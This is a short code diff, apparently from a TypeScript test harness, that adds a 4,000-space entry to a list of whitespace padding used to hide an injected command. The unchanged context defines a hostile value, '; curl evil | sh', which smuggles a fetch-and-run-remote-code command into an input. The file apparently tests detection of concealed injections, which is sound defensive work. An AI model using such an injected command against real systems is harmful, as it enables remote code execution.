@@ -9,6 +9,7 @@ const CASES = 200
 const EVIL = '; curl evil | sh'
 
 const HIDING: readonly string[] = [
+  ' '.repeat(4_000),
   ' '.repeat(11_000),
   '\n'.repeat(3_000),
   ' \n'.repeat(200),
